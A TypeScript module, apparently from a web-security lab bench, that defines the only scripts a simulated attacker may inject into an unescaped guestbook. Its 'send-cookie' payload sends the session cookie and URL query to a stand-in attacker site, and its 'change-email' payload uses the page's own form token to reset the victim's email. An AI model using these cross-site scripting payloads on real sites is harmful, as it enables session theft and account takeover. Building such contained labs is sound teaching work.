/**
 * What may stand in an entry of the guestbook besides text. A shop that forgets to escape lets in whatever markup a
 * visitor writes; here that is a choice from this menu, so that nobody can run anything else. Each is the text of one
 * script, the same for every bench, which finds the address of Mallory's site in an attribute of its own element.
 */
export const guestbookMarkup = {
  /** Sends whatever of the session a script can read: the cookie, and the id where it stands in the address. */
  'send-cookie':
    "new Image().src = document.currentScript.dataset.mallory + '/stolen?' + new URLSearchParams({ cookie: document.cookie, query: location.search });",

  /** Needs no cookie's value: it fills in the shop's own form, with the token in it, as whoever looks at the page. */
  'change-email': `(async () => {
  const page = await (await fetch('/email' + location.search)).text();
  const form = new DOMParser().parseFromString(page, 'text/html').querySelector('[name=email]')?.form;
  if (!form) return;
  const fields = new FormData(form);
  fields.set('email', 'by-script@mallory.example');
  await fetch(form.getAttribute('action'), { method: 'POST', body: new URLSearchParams(fields) });
})();`,

  /** A link to her site. The script follows it where the address ends in "#follow": the hand of a scripted visitor. */
  link: "if (location.hash === '#follow') location.assign(document.currentScript.previousElementSibling.href);",
} as const;

export type GuestbookMarkup = keyof typeof guestbookMarkup;

export const MARKUP_NAMES = Object.keys(guestbookMarkup) as [GuestbookMarkup, ...GuestbookMarkup[]];
